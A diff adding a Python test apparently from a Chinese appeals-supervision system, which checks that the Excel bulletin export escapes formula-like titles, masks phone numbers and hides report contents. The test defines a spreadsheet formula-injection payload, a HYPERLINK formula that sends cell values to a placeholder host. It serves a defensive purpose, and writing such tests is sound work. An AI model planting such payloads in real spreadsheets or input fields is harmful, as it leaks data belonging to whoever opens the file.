@@ -138,3 +138,29 @@ def test_late_return_visits_are_listed_but_not_held_against_the_unit(
         b = build(2026, 11)
     assert [(o.number, o.stage, o.unit) for o in b.overdue] == [(appeal.number, "回访", "（回访）")]
     assert all(u.overdue == 0 for u in b.units)
+
+
+INJECTION = '=HYPERLINK("http://x/?leak="&C2&D2,"点击查看")'
+
+
+def test_the_workbook_keeps_formulas_as_text_and_masks_numbers(
+    walk: Walk, make_appeal: Any, client: Any
+) -> None:
+    """An overdue appeal titled like a formula, with a phone in it, and a report (举报)."""
+    late = walk("dispatched", title=INJECTION)
+    phoned = walk("dispatched", unit="ybj", title="医保报销 联系电话13812342222 无人答复")
+    with clock.frozen(at(11, 23, 8)):
+        supervisor = user("supervisor")
+        report = make_appeal(kind="report", title="举报某单位违规收费", actor=supervisor)
+        services.appeal_dispatch(actor=supervisor, number=report.number or "", unit="zjj")
+    sweep(now=at(11, 24, 9))  # all three claims overdue
+    client.force_login(user("leader"))
+    with clock.frozen(at(12, 8, 10)):
+        xlsx = client.get("/supervision/bulletin/", {"month": "2026-11", "format": "xlsx"})
+    assert xlsx.status_code == 200
+    sheet = load_workbook(io.BytesIO(xlsx.content))["超期诉求"]
+    titles = {row[0].value: row[1] for row in sheet.iter_rows(min_row=2)}
+    assert titles[late.number].value == INJECTION
+    assert titles[late.number].data_type == "s" and titles[late.number].quotePrefix
+    assert titles[phoned.number].value == "医保报销 联系电话*********** 无人答复"
+    assert titles[report.number].value == "（举报件，内容保密）"
